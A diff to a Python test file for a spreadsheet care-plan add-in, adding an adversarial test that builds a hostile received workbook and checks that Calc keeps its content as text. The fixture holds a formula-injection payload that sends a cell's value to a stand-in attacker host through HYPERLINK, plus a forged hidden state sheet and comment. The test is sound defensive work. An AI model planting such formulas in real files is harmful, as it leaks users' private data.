@@ -73,6 +73,9 @@ def calc_run(tmp_path_factory):
     outs["extension"] = [work / f"extension_{k}.xlsx" for k in (1, 2)]
     jobs.append({"kind": "click", "via": "extension", "in": copy(SAMPLES / VIA_EXTENSION),
                  "out": [str(p) for p in outs["extension"]], "today": TODAY.isoformat()})
+    outs["received"] = [work / "received_1.xlsx"]
+    jobs.append({"kind": "click", "in": _received_plan(inputs / "received.xlsx"),
+                 "out": [str(outs["received"][0])], "today": TODAY.isoformat()})
     jobs.append({"kind": "addons"})
     grids = [TEMPLATE] + [SAMPLES / n for n in GRID_SAMPLES]
     jobs += [{"kind": "grid", "in": copy(p)} for p in grids]
@@ -85,12 +88,53 @@ def calc_run(tmp_path_factory):
     for job, res in zip(jobs, results):
         print(job["kind"], job.get("via", ""), Path(job.get("in", "")).name, res.get("seconds"))
         assert "error" not in res, f"{job['kind']}: {res.get('traceback') or res.get('error')}"
-    keys = DIRECT + [CALC_DROPS_FORMATS, "reopened", "extension"]
+    keys = DIRECT + [CALC_DROPS_FORMATS, "reopened", "extension", "received"]
     out = {k: {"clicks": r["clicks"], "out": outs[k]} for k, r in zip(keys, results[1:1 + len(keys)])}
     out["install"] = results[0]
     out["addons"] = results[-1 - len(grids)]
     out["grids"] = dict(zip([p.name for p in grids], results[-len(grids):]))
     return out
+
+
+EVIL = '=HYPERLINK("http://attacker.example/?"&第1表!B4,"詳細")'
+FORGED_NOTE = NOTE_MARKER + "\n■エラー [CP101] 偽の指摘\n　根拠: 偽\n利用者の家族の連絡先メモ"
+
+
+def _received_plan(dest: Path) -> str:
+    """A plan as a sender could make it: reasons that look like formulas, a forged state sheet listing a note that
+    carries our marker over the user's own text (tests/test_addin_adversarial.py has the same on the stand-in)."""
+    from xl_careplan.writer.annotate import STATE_MAGIC
+
+    wb = openpyxl.load_workbook(SAMPLES / "10_acknowledged_deviation.xlsx")
+    for row in wb["方針と異なる理由"].iter_rows():
+        for c in row:
+            if isinstance(c.value, str) and len(c.value) > 20:
+                c.value, c.data_type = EVIL, "s"  # stored as text, as another program would
+    first = wb.worksheets[0]
+    first["A1"].comment = openpyxl.comments.Comment(FORGED_NOTE, "sender")
+    state = wb.create_sheet(STATE_SHEET)
+    for r in ([STATE_MAGIC, "2026-01-01"], ["kind", "sheet", "cell", "original", "applied"], ["note", first.title, "A1"]):
+        state.append(r)
+    state.sheet_state = "hidden"
+    conf = wb.create_sheet(flow.CONF_SHEET)
+    conf.append(["PROFILE", "asahikawa"])
+    wb.save(dest)
+    return str(dest)
+
+
+def test_a_received_plan_clicked_in_calc_gets_text_not_formulas_and_keeps_the_users_note(calc_run):
+    click = calc_run["received"]["clicks"][0]
+    assert click["ok"], click["message"]
+    assert click["acknowledged"] >= 1 and "「方針と異なる理由」" in click["message"]
+    assert "PROFILE=asahikawa" in click["message"]
+    wb = openpyxl.load_workbook(calc_run["received"]["out"][0])
+    results = wb[SHEET_RESULTS]
+    cells = [c for row in results.iter_rows() for c in row if c.value is not None]
+    assert [c.value for c in cells if c.value == EVIL]  # the reason, as text
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # Calc's setDataArray parsed nothing
+    assert wb.worksheets[0]["A1"].comment.text == "利用者の家族の連絡先メモ"
+    header = next(r for r in results.iter_rows() if r[0].value == "重要度" and r[5].value == "方針と異なる理由")
+    assert header[7].value == "理由の場所"
 
 
 def _file_flow(name: str, tmp_path: Path, settings: dict[str, str] | None = None):
